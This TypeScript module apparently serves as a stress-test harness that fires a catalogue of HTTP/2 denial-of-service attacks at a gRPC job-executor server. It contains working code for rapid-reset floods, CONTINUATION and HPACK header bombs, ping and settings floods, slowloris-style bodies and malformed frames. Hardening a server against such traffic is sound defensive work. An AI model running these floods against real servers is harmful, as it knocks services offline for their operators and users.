import { setTimeout as pause } from "node:timers/promises";
import { callHeaders, FLAG, FRAME, frame, header, opening, RawSocket } from "./raw-frames.ts";
import type { Frame } from "./raw-frames.ts";

const GET_JOB = "/verbatim.executor.v1.JobExecutorService/GetJob";
const EXECUTE = "/verbatim.executor.v1.JobExecutorService/ExecuteJob";
/** Frames that are written at once. */
const BATCH = 200;

/** What strangers do to a server; each goes on until `over` says that it is enough. */
export type Attack = (address: string, over: () => boolean) => Promise<void>;

/** Makes frames without an end on as many connections as are closed on it. */
function flood(settings: {
  readonly first?: Buffer;
  readonly next: (at: number) => readonly Frame[];
  readonly reads?: boolean;
}): Attack {
  return async (address, over) => {
    while (!over()) {
      using raw = new RawSocket(address);
      if (settings.reads === true) raw.socket.resume();
      let open = await raw.write(Buffer.concat([opening(), settings.first ?? Buffer.alloc(0)]));
      for (let at = 0; open && !over(); at += BATCH) {
        const frames = Array.from({ length: BATCH }, (_none, offset) => settings.next(at + offset).map(frame));
        open = await raw.write(Buffer.concat(frames.flat()));
      }
      await pause(5);
    }
  };
}

const odd = (at: number): number => 2 * at + 1;
const call = callHeaders(GET_JOB);
const open = (stream: number, flags: number = FLAG.endHeaders): Frame => ({
  type: FRAME.headers,
  flags,
  stream,
  payload: call,
});
const window = (stream: number, by: number): Frame => ({ type: FRAME.windowUpdate, stream, payload: uint32(by) });
const reset = (stream: number): Frame => ({ type: FRAME.reset, stream, payload: uint32(8) });

function uint32(value: number): Buffer {
  const bytes = Buffer.alloc(4);
  bytes.writeUInt32BE(value);
  return bytes;
}

function setting(id: number, value: number): Buffer {
  return Buffer.concat([Buffer.from([0, id]), uint32(value)]);
}

const BOMB = header("x-bomb", "b".repeat(3900), { indexed: true });

/** One way of being hostile each, by name. */
export const ATTACKS: Readonly<Record<string, Attack>> = {
  "half-open peers": async (address, over) => {
    const peers: RawSocket[] = [];
    try {
      while (!over() && peers.length < 500) {
        const raw = new RawSocket(address);
        peers.push(raw);
        await raw.write(Buffer.from("PRI * HT"));
      }
      while (!over()) await pause(50);
    } finally {
      for (const raw of peers) raw[Symbol.dispose]();
    }
  },
  "bodies that come one byte at a time": async (address, over) => {
    using raw = new RawSocket(address);
    raw.socket.resume();
    await raw.write(opening());
    for (let at = 0; at < 90; at += 1) await raw.write(frame({ ...open(odd(at)), payload: callHeaders(EXECUTE) }));
    while (!over()) {
      for (let at = 0; at < 90; at += 1)
        await raw.write(frame({ type: FRAME.data, stream: odd(at), payload: Buffer.from([0]) }));
      await pause(50);
    }
  },
  "calls without a body": async (address, over) => {
    while (!over()) {
      using raw = new RawSocket(address);
      raw.socket.resume();
      await raw.write(opening());
      const calls = Array.from({ length: 100 }, (_none, at) => frame(open(odd(at), FLAG.endHeaders | FLAG.endStream)));
      await raw.write(Buffer.concat(calls));
      await pause(20);
    }
  },
  "calls that are reset at once": flood({ reads: true, next: (at) => [open(odd(at)), reset(odd(at))] }),
  "calls that are reset, by a peer who reads nothing": flood({ next: (at) => [open(odd(at)), reset(odd(at))] }),
  "headers that never end": flood({
    first: frame({ type: FRAME.headers, stream: 1, payload: call }),
    next: (at) => [{ type: FRAME.continuation, stream: 1, payload: header(`x-${at}`, "y".repeat(100)) }],
  }),
  "empty continuations of headers": flood({
    first: frame({ type: FRAME.headers, stream: 1, payload: call }),
    next: () => [{ type: FRAME.continuation, stream: 1 }],
  }),
  "pings, whose answers nobody reads": flood({ next: () => [{ type: FRAME.ping, payload: Buffer.alloc(8) }] }),
  "pings, whose answers are read": flood({ reads: true, next: () => [{ type: FRAME.ping, payload: Buffer.alloc(8) }] }),
  "settings, whose answers nobody reads": flood({
    next: (at) => [{ type: FRAME.settings, payload: setting(4, 65_535 - (at % 2)) }],
  }),
  "settings for a table of headers of 4 GB": flood({
    next: () => [{ type: FRAME.settings, payload: setting(1, 0xff_ff_ff_ff) }],
  }),
  "one header that a table makes a million of": flood({
    next: (at) => [
      {
        type: FRAME.headers,
        flags: FLAG.endHeaders | FLAG.endStream,
        stream: odd(at),
        payload: Buffer.concat([call, BOMB, Buffer.alloc(8000, 0x80 | 62)]),
      },
    ],
  }),
  "ten thousand headers to a call": flood({
    next: (at) => [
      {
        type: FRAME.headers,
        flags: FLAG.endHeaders,
        stream: odd(at),
        payload: Buffer.concat([call, ...Array.from({ length: 1000 }, (_none, name) => header(`x${name}`, ""))]),
      },
    ],
  }),
  "windows of nothing and of too much": flood({
    first: frame(open(1)),
    next: (at) => [window(at % 2, at % 3 === 0 ? 0 : 0x7f_ff_ff_ff)],
  }),
  "windows that are opened a byte at a time": flood({ next: () => [window(0, 1)] }),
  "priorities of streams that are not there": flood({
    next: (at) => [{ type: FRAME.priority, stream: odd(at), payload: Buffer.from([0, 0, 0, 0, 255]) }],
  }),
  "frames of types that nobody knows": flood({
    next: (at) => [{ type: 11 + (at % 200), payload: Buffer.alloc(1000) }],
  }),
  "frames that claim to be longer than they may": flood({
    next: () => [{ type: FRAME.data, stream: 1, claims: 0xff_ff_ff }],
  }),
  "data on streams that were never opened": flood({
    next: (at) => [{ type: FRAME.data, stream: odd(at), payload: Buffer.alloc(100) }],
  }),
  "pushes, which are not a client's to make": flood({ next: () => [{ type: FRAME.push, stream: 1, payload: call }] }),
  "calls under the numbers of earlier ones": flood({ next: () => [open(1, FLAG.endHeaders | FLAG.endStream)] }),
  "connections that are opened and cut": async (address, over) => {
    while (!over()) {
      const many = Array.from({ length: 20 }, () => new RawSocket(address));
      await Promise.all(many.map((raw) => raw.write(opening())));
      for (const raw of many) raw[Symbol.dispose]();
    }
  },
  "bytes by chance behind a right beginning": async (address, over) => {
    let seed = 1;
    while (!over()) {
      using raw = new RawSocket(address);
      raw.socket.resume();
      const noise = Buffer.from(Array.from({ length: 4000 }, () => (seed = (seed * 48_271) % 2_147_483_647) & 0xff));
      await raw.write(Buffer.concat([opening(), frame(open(1)), noise]));
    }
  },
};
